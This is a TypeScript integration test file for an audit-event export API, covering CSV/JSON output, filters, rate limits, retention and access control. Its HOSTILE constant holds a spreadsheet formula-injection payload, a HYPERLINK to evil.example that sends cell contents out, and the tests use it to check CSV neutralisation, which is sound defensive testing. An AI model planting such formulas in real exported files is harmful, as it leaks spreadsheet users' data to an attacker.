// Audit exports: POST answers 202 with an id, the audit-export worker writes the file, GET answers
// 202 while pending, the file once ready, 404 for another user's or an unknown export, 410 once
// expired. CSV and JSON parse back (with a real CSV parser) to the same events; a hostile value
// survives intact and inert; more than 10,000 matching events is reported as truncated; exports are
// rate-limited; the reconciler and retention do their part.
import crypto from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { call, eventually, startTestApp, type TestApp, type Reply } from '../helpers/app';
import { signedInUser, type SignedIn } from '../helpers/auth';
import { CSV_COLUMNS, neutralise, unneutralise } from '../../shared/audit/formats';
import { AUDIT_EXPORTS_PER_HOUR } from '../../shared/rate-limit';
import { JOB_NAMES } from '../../shared/queues';
import { reconcileExports } from '../../workers/processors/audit-export';

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
  await t.startWorkers();
});
afterAll(() => t.close());

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1, "click"), then a comma,\r\nand a "quoted" line\n+SUM(1)';

async function seedEvents(userId: string, n: number): Promise<void> {
  await t.context.db.raw(
    `INSERT INTO events (id, type, user_id, actor_id, ip, user_agent, data, occurred_at)
     SELECT gen_random_uuid(), 'user.login', ?::uuid, ?::uuid, '10.1.2.3', 'agent ' || g, jsonb_build_object('n', g),
            timestamptz '2026-10-01' + make_interval(secs => g)
     FROM generate_series(1, ?) AS g`,
    [userId, userId, n],
  );
}

async function requestExport(user: SignedIn, body: Record<string, unknown>): Promise<string> {
  const r = await call(`${t.url}/v1/audit/export`, { body, headers: user.auth });
  expect(r.status).toBe(202);
  expect(r.body).toEqual({ export_id: expect.any(String), status: 'pending' });
  return r.body.export_id as string;
}

const getExport = (user: SignedIn, id: string) => call(`${t.url}/v1/audit/export/${id}`, { headers: user.auth });

async function readyExport(user: SignedIn, id: string): Promise<Reply> {
  return eventually(
    async () => {
      const r = await getExport(user, id);
      if (r.status === 202) {
        expect(r.body).toEqual({ export_id: id, status: 'pending' });
        return null;
      }
      return r;
    },
    { timeoutMs: 20_000, intervalMs: 100 },
  );
}

/** The user's trail as the list endpoint gives it, newest first. */
async function trail(user: SignedIn): Promise<Record<string, unknown>[]> {
  const events: Record<string, unknown>[] = [];
  let cursor = '';
  for (;;) {
    const r = await call(`${t.url}/v1/audit/events?limit=100${cursor ? `&cursor=${cursor}` : ''}`, { headers: user.auth });
    events.push(...(r.body.events as Record<string, unknown>[]));
    if (!r.body.next_cursor) return events;
    cursor = r.body.next_cursor as string;
  }
}

describe('JSON and CSV', () => {
  let me: SignedIn;
  let expected: Record<string, unknown>[];
  beforeAll(async () => {
    me = await signedInUser(t.context.db, t.url);
    await seedEvents(me.id, 40);
    await t.context.db('events').insert({
      id: crypto.randomUUID(),
      type: 'user.updated',
      user_id: me.id,
      actor_id: me.id,
      ip: '2001:db8::1',
      user_agent: HOSTILE,
      data: { fields: ['name'], note: HOSTILE, '@at': '-1' },
      occurred_at: new Date('2026-10-02T00:00:00Z'),
    });
    expected = await trail(me);
    expect(expected.length).toBeGreaterThan(40);
  });

  test('JSON: an array of envelopes, the same events as the list, newest first', async () => {
    const id = await requestExport(me, { format: 'json' });
    const r = await readyExport(me, id);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toMatch(/^application\/json/);
    expect(r.headers.get('content-disposition')).toBe(`attachment; filename="audit-events-${id}.json"`);
    expect(r.headers.get('x-export-truncated')).toBe('false');
    expect(r.headers.get('x-export-event-count')).toBe(String(expected.length));
    expect(r.body).toEqual(expected);
    expect(r.body.find((e: { type: string }) => e.type === 'user.updated').user_agent).toBe(HOSTILE);
  });

  test('CSV: RFC 4180 with a header row; parsed back it is the same events, and the hostile value is intact and inert', async () => {
    const id = await requestExport(me, { format: 'csv' });
    const r = await readyExport(me, id);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(r.headers.get('content-disposition')).toBe(`attachment; filename="audit-events-${id}.csv"`);
    expect(r.text.startsWith(`${CSV_COLUMNS.join(',')}\r\n`)).toBe(true);

    const rows = parse<Record<string, string>>(r.text, { columns: true, relax_column_count: false });
    expect(rows).toHaveLength(expected.length);
    for (const row of rows) {
      // Inert: no cell starts with a character a spreadsheet would run as a formula.
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const decoded = rows.map((row) => {
      const value = (column: string) => (row[column] === '' ? null : unneutralise(row[column]));
      return {
        id: value('id'),
        type: value('type'),
        occurred_at: value('occurred_at'),
        user_id: value('user_id'),
        actor_id: value('actor_id'),
        ip: value('ip'),
        user_agent: value('user_agent'),
        data: JSON.parse(value('data')!) as unknown,
      };
    });
    expect(decoded).toEqual(expected);
    const hostile = rows.find((row) => row.type === 'user.updated')!;
    expect(hostile.user_agent).toBe(`'${HOSTILE}`);
    expect(unneutralise(hostile.user_agent)).toBe(HOSTILE);
  });

  test('filters apply to the export as to the list', async () => {
    const id = await requestExport(me, {
      format: 'json',
      event_types: ['user.updated'],
      from: '2026-10-01T12:00:00Z',
      to: '2026-10-03T00:00:00Z',
    });
    const r = await readyExport(me, id);
    expect(r.body.map((e: { type: string }) => e.type)).toEqual(['user.updated']);
  });

  test('bad input is refused naming the field, and no export is recorded', async () => {
    const before = await t.context.db('audit_exports').where({ user_id: me.id }).count({ n: '*' });
    for (const [body, field] of [
      [{ format: 'xml' }, 'format'],
      [{}, 'format'],
      [{ format: 'csv', event_types: ['nope'] }, 'event_types.0'],
      [{ format: 'csv', from: 'today' }, 'from'],
      [{ format: 'csv', from: '2026-10-02T00:00:00Z', to: '2026-10-01T00:00:00Z' }, 'to'],
    ] as const) {
      const r = await call(`${t.url}/v1/audit/export`, { body, headers: me.auth });
      expect(r.status).toBe(400);
      expect(r.body.errors.map((e: { field: string }) => e.field)).toContain(field);
    }
    expect(await t.context.db('audit_exports').where({ user_id: me.id }).count({ n: '*' })).toEqual(before);
  });
});

test('more than 10,000 matching events: the newest 10,000, and the answer says it is truncated', async () => {
  const me = await signedInUser(t.context.db, t.url);
  await seedEvents(me.id, 10_050);
  // Before today: the sign-in of this test is a user.login too.
  const id = await requestExport(me, { format: 'csv', event_types: ['user.login'], to: '2026-11-01T00:00:00Z' });
  const r = await readyExport(me, id);
  expect(r.status).toBe(200);
  expect(r.headers.get('x-export-truncated')).toBe('true');
  expect(r.headers.get('x-export-event-count')).toBe('10000');
  const rows = parse<Record<string, string>>(r.text, { columns: true });
  expect(rows).toHaveLength(10_000);
  // Newest first: the seeded events are one second apart, the newest is number 10,050.
  expect(JSON.parse(rows[0].data)).toEqual({ n: 10_050 });
  expect(JSON.parse(rows[9_999].data)).toEqual({ n: 51 });
  expect(await t.context.db('audit_exports').where({ id }).first()).toMatchObject({
    status: 'ready',
    truncated: true,
    event_count: 10_000,
  });
});

test("another user's export and an unknown id are 404; an expired export is 410", async () => {
  const me = await signedInUser(t.context.db, t.url);
  const someone = await signedInUser(t.context.db, t.url);
  const id = await requestExport(me, { format: 'json' });
  expect((await readyExport(me, id)).status).toBe(200);
  expect((await getExport(someone, id)).status).toBe(404);
  expect((await getExport(me, crypto.randomUUID())).status).toBe(404);
  await t.context
    .db('audit_exports')
    .where({ id })
    .update({ expires_at: new Date(Date.now() - 1000) });
  const gone = await getExport(me, id);
  expect(gone.status).toBe(410);
  expect(gone.body.type).toMatch(/export_expired$/);
});

test(`exports are rate-limited per user (${AUDIT_EXPORTS_PER_HOUR} an hour)`, async () => {
  const me = await signedInUser(t.context.db, t.url);
  for (let i = 0; i < AUDIT_EXPORTS_PER_HOUR; i += 1) await requestExport(me, { format: 'json' });
  const r = await call(`${t.url}/v1/audit/export`, { body: { format: 'json' }, headers: me.auth });
  expect(r.status).toBe(429);
  expect(Number(r.headers.get('retry-after'))).toBeGreaterThan(0);
  const [{ n }] = await t.context.db('audit_exports').where({ user_id: me.id }).count({ n: '*' });
  expect(Number(n)).toBe(AUDIT_EXPORTS_PER_HOUR);
  // Someone else is not limited by it.
  await requestExport(await signedInUser(t.context.db, t.url), { format: 'json' });
});

test('the reconciler re-enqueues a pending export that lost its job; a lost file is written again', async () => {
  const me = await signedInUser(t.context.db, t.url);
  // A row committed whose job never reached Redis (a crash between the two), a while ago.
  const [{ id }] = await t.context
    .db('audit_exports')
    .insert({ user_id: me.id, format: 'json', expires_at: new Date(Date.now() + 3600_000), created_at: new Date(Date.now() - 120_000) })
    .returning('id');
  expect((await getExport(me, id)).status).toBe(202);
  expect(await reconcileExports(t.context)).toEqual({ requeued: 1 });
  expect((await readyExport(me, id)).status).toBe(200);

  // Redis lost the file: the row is pending again and the file comes back.
  await t.context.redis.del(t.context.key('audit-export', id));
  const again = await getExport(me, id);
  expect(again.status).toBe(202);
  expect((await readyExport(me, id)).status).toBe(200);
});

test('retention is a scheduled job that deletes expired export rows and files, never events', async () => {
  const schedulers = await t.context.queues['audit-export'].getJobSchedulers();
  expect(schedulers.map((s) => s.key)).toEqual(expect.arrayContaining(['audit-retention']));

  const me = await signedInUser(t.context.db, t.url);
  const old = await requestExport(me, { format: 'json' });
  const fresh = await requestExport(me, { format: 'json' });
  await readyExport(me, old);
  await readyExport(me, fresh);
  const events = await t.context.db('events').count({ n: '*' });
  await t.context
    .db('audit_exports')
    .where({ id: old })
    .update({ expires_at: new Date(Date.now() - 30 * 24 * 3600_000) });

  await t.context.queues['audit-export'].add(JOB_NAMES.auditRetention, {});
  await eventually(async () => !(await t.context.db('audit_exports').where({ id: old }).first()));
  expect(await t.context.redis.exists(t.context.key('audit-export', old))).toBe(0);
  expect(await t.context.db('audit_exports').where({ id: fresh }).first()).toBeTruthy();
  expect((await getExport(me, old)).status).toBe(404);
  expect(await t.context.db('events').count({ n: '*' })).toEqual(events);
  // The rule it relies on: the events table refuses deletes.
  await expect(t.context.db('events').where({ user_id: me.id }).delete()).rejects.toThrow(/append-only/);
});

test('an export whose job failed for good answers 410, asking for a new one', async () => {
  const me = await signedInUser(t.context.db, t.url);
  const [{ id }] = await t.context
    .db('audit_exports')
    .insert({ user_id: me.id, format: 'csv', status: 'failed', last_error: 'x', expires_at: new Date(Date.now() + 3600_000) })
    .returning('id');
  const r = await getExport(me, id);
  expect(r.status).toBe(410);
  expect(r.body.type).toMatch(/export_failed$/);
});

test.each([
  ['=1+1', "'=1+1"],
  ['+1', "'+1"],
  ['-1', "'-1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\tx', "'\tx"],
  ['\rx', "'\rx"],
  ["'quoted", "''quoted"],
  ['plain, text', 'plain, text'],
])('neutralise(%j) is %j, and reverses', (value, cell) => {
  expect(neutralise(value)).toBe(cell);
  expect(unneutralise(neutralise(value))).toBe(value);
});
